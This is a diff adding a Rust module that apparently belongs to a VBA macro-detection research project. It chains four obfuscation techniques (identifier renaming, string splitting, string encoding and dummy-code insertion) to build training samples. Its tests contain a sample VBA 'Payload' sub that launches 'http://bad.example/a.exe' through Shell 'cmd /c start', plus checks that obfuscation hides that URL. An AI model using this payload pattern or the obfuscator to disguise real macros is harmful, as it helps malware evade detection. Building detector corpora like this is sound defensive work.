@@ -1,0 +1,152 @@
+//! Composable obfuscation pipeline.
+
+use crate::{encoding, logic, random, split};
+use rand::Rng;
+use std::collections::HashMap;
+
+/// One of the paper's four obfuscation techniques (Table I).
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum Technique {
+    /// O1 — randomize identifier names.
+    Random,
+    /// O2 — split string literals.
+    Split,
+    /// O3 — encode string literals.
+    Encoding,
+    /// O4 — insert dummy code and reorder procedures (default intensity).
+    Logic,
+    /// O4 with explicit intensity (approximate dummy-statement count).
+    LogicWithIntensity(usize),
+}
+
+/// Output of an obfuscation run.
+#[derive(Debug, Clone)]
+pub struct ObfuscationResult {
+    /// The transformed source code.
+    pub source: String,
+    /// The techniques applied, in order.
+    pub applied: Vec<Technique>,
+    /// O1 rename map (lowercased original → new), empty if O1 was not run.
+    pub renames: HashMap<String, String>,
+}
+
+/// Applies a configurable sequence of obfuscation techniques.
+///
+/// Techniques are applied in the order given; the conventional order used by
+/// real obfuscators (and by the corpus generator) is O2/O3 on strings first,
+/// then O4 bulking, then O1 renaming — but any order is legal.
+///
+/// ```
+/// use rand::SeedableRng;
+/// use vbadet_obfuscate::{Obfuscator, Technique};
+/// let mut rng = rand::rngs::StdRng::seed_from_u64(1);
+/// let result = Obfuscator::new()
+///     .with(Technique::Encoding)
+///     .with(Technique::LogicWithIntensity(40))
+///     .with(Technique::Random)
+///     .apply("Sub A()\r\n    x = \"secret\"\r\nEnd Sub\r\n", &mut rng);
+/// assert!(!result.source.contains("secret"));
+/// ```
+#[derive(Debug, Clone, Default)]
+pub struct Obfuscator {
+    techniques: Vec<Technique>,
+}
+
+impl Obfuscator {
+    /// Creates an empty pipeline (applying it is the identity).
+    pub fn new() -> Self {
+        Self::default()
+    }
+
+    /// Appends a technique to the pipeline.
+    pub fn with(mut self, technique: Technique) -> Self {
+        self.techniques.push(technique);
+        self
+    }
+
+    /// The configured techniques, in application order.
+    pub fn techniques(&self) -> &[Technique] {
+        &self.techniques
+    }
+
+    /// Runs the pipeline over `source`.
+    pub fn apply<R: Rng + ?Sized>(&self, source: &str, rng: &mut R) -> ObfuscationResult {
+        let mut current = source.to_string();
+        let mut renames = HashMap::new();
+        for &technique in &self.techniques {
+            match technique {
+                Technique::Random => {
+                    let (next, map) = random::apply(&current, rng);
+                    current = next;
+                    renames.extend(map);
+                }
+                Technique::Split => current = split::apply(&current, rng),
+                Technique::Encoding => current = encoding::apply(&current, rng),
+                Technique::Logic => {
+                    current = logic::apply(&current, logic::Intensity::default(), rng)
+                }
+                Technique::LogicWithIntensity(n) => {
+                    current = logic::apply(&current, logic::Intensity(n), rng)
+                }
+            }
+        }
+        ObfuscationResult { source: current, applied: self.techniques.clone(), renames }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use rand::rngs::StdRng;
+    use rand::SeedableRng;
+
+    const SRC: &str = "Sub Payload()\r\n\
+        Dim target As String\r\n\
+        target = \"http://bad.example/a.exe\"\r\n\
+        Shell \"cmd /c start\" & target, 0\r\n\
+        End Sub\r\n";
+
+    #[test]
+    fn empty_pipeline_is_identity() {
+        let mut rng = StdRng::seed_from_u64(0);
+        let out = Obfuscator::new().apply(SRC, &mut rng);
+        assert_eq!(out.source, SRC);
+        assert!(out.renames.is_empty());
+    }
+
+    #[test]
+    fn full_pipeline_composes_all_techniques() {
+        let mut rng = StdRng::seed_from_u64(99);
+        let out = Obfuscator::new()
+            .with(Technique::Split)
+            .with(Technique::Encoding)
+            .with(Technique::LogicWithIntensity(30))
+            .with(Technique::Random)
+            .apply(SRC, &mut rng);
+        // The URL is gone (split then encoded).
+        assert!(!out.source.contains("http://bad.example/a.exe"));
+        // The variable was renamed.
+        assert!(!out.source.contains("target"));
+        assert!(out.renames.contains_key("target"));
+        // The code grew substantially (logic obfuscation).
+        assert!(out.source.len() > SRC.len() * 4);
+        // Builtins survive all stages.
+        assert!(out.source.contains("Shell"));
+    }
+
+    #[test]
+    fn deterministic_given_seed() {
+        let pipeline = Obfuscator::new().with(Technique::Encoding).with(Technique::Random);
+        let a = pipeline.apply(SRC, &mut StdRng::seed_from_u64(5)).source;
+        let b = pipeline.apply(SRC, &mut StdRng::seed_from_u64(5)).source;
+        assert_eq!(a, b);
+    }
+
+    #[test]
+    fn different_seeds_differ() {
+        let pipeline = Obfuscator::new().with(Technique::Random);
+        let a = pipeline.apply(SRC, &mut StdRng::seed_from_u64(1)).source;
+        let b = pipeline.apply(SRC, &mut StdRng::seed_from_u64(2)).source;
+        assert_ne!(a, b);
+    }
+}
